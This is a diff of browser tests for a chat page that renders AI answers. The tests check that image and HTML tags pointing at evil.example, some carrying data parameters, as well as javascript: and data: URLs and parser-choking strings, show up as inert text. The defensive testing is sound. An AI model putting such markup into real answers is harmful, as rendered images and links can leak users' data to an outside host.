@@ -6,7 +6,6 @@ end of every browser test (``conftest.Watch``).
 
 from __future__ import annotations
 
-import pytest
 from playwright.async_api import Locator, Page, expect
 
 from tests.web.conftest import ask
@@ -15,12 +14,34 @@ from tests.web.stage import Stage
 #: What could load, send, run or lead away.
 DANGEROUS = "img, a, iframe, object, embed, video, audio, source, svg image, style, script, form, link, base, meta, input, [style], [src], [href], [srcset]"
 
+HTML = (
+    '<img src="https://evil.example/p.png?d=C-7">',
+    "<img src='//evil.example/p'>",
+    '<svg><image href="https://evil.example/a"/></svg>',
+    '<div style="background:url(https://evil.example/b)">',
+    "<video poster=https://evil.example/c>",
+)
+
+URLS = (
+    "//evil.example/p.png",
+    "\\\\evil.example\\p",
+    "https:evil.example",
+    "ht\ntp://evil.example",
+    "data:text/html,<script>1</script>",
+    "blob:x",
+    "ftp://evil.example/x",
+    "HTTPS://EVIL.EXAMPLE",
+    "javascript:alert(1)",
+)
+
+CHOKING = ("> " * 5000 + "x", "- " * 3000 + "x", "[" * 20_000, "*" * 20_000 + "a", "|" * 5000 + "\n" + "|-" * 5000)
+
 
 async def shown(page: Page, stage: Stage, *pieces: str) -> Locator:
     """The answer that was said in these pieces, once it is over; nothing in it is dangerous at any moment."""
     await ask(page, "¿Qué pasó?")
     turn = await stage.asked()
-    text = page.locator(".answer .text")
+    text = page.locator(".answer").nth(len(stage.turns) - 1).locator(".text")
     for piece in pieces:
         turn.say(piece)
         await expect(text).to_be_visible()
@@ -37,20 +58,10 @@ async def test_a_picture_is_a_remark_and_not_fetched(page: Page, stage: Stage) -
     await expect(text).to_have_text("Listo. [imagen quitada: ok]")
 
 
-@pytest.mark.parametrize(
-    "output",
-    [
-        '<img src="https://evil.example/p.png?d=C-7">',
-        "<img src='//evil.example/p'>",
-        '<svg><image href="https://evil.example/a"/></svg>',
-        '<div style="background:url(https://evil.example/b)">',
-        "<video poster=https://evil.example/c>",
-    ],
-)
-async def test_html_is_shown_as_the_text_it_is(page: Page, stage: Stage, output: str) -> None:
+async def test_html_is_shown_as_the_text_it_is(page: Page, stage: Stage) -> None:
     """B154: the same in raw HTML."""
-    text = await shown(page, stage, output)
-    await expect(text).to_have_text(output)
+    for output in HTML:
+        await expect(await shown(page, stage, output)).to_have_text(output)
 
 
 async def test_references_that_come_later_change_nothing(page: Page, stage: Stage) -> None:
@@ -60,24 +71,11 @@ async def test_references_that_come_later_change_nothing(page: Page, stage: Stag
     await expect(text).to_have_text("[imagen quitada: a] y clic (https://evil.example/?d=C-8)")
 
 
-@pytest.mark.parametrize(
-    "url",
-    [
-        "//evil.example/p.png",
-        "\\\\evil.example\\p",
-        "https:evil.example",
-        "ht\ntp://evil.example",
-        "data:text/html,<script>1</script>",
-        "blob:x",
-        "ftp://evil.example/x",
-        "HTTPS://EVIL.EXAMPLE",
-        "javascript:alert(1)",
-    ],
-)
-async def test_no_scheme_makes_a_link(page: Page, stage: Stage, url: str) -> None:
+async def test_no_scheme_makes_a_link(page: Page, stage: Stage) -> None:
     """B156: protocol-relative and other odd schemes; bare, in a link, in a picture and in brackets."""
-    text = await shown(page, stage, f"{url} [uno]({url}) ![dos]({url}) <{url}>")
-    await expect(text).to_contain_text("uno")
+    for url in URLS:
+        text = await shown(page, stage, f"{url} [uno]({url}) ![dos]({url}) <{url}>")
+        await expect(text).to_contain_text("uno")
 
 
 async def test_frames_objects_styles_and_forms_are_text(page: Page, stage: Stage) -> None:
@@ -123,10 +121,10 @@ async def test_a_question_is_text_too(page: Page, stage: Stage) -> None:
     await expect(page.locator(".question").locator(DANGEROUS)).to_have_count(0)
 
 
-@pytest.mark.parametrize("output", ["> " * 5000 + "x", "- " * 3000 + "x", "[" * 20000, "*" * 20000 + "a", "|" * 5000 + "\n" + "|-" * 5000], ids=["quotes", "lists", "brackets", "stars", "table"])
-async def test_an_answer_made_to_choke_the_parser_is_still_shown(page: Page, stage: Stage, output: str) -> None:
+async def test_an_answer_made_to_choke_the_parser_is_still_shown(page: Page, stage: Stage) -> None:
     """Depth and length are bounded: the page lives on."""
-    await shown(page, stage, output)
+    for output in CHOKING:
+        await shown(page, stage, output)
     await ask(page, "¿sigues?")
     (await stage.asked()).say("Sí.").end()
     await expect(page.locator(".answer .text").last).to_have_text("Sí.")
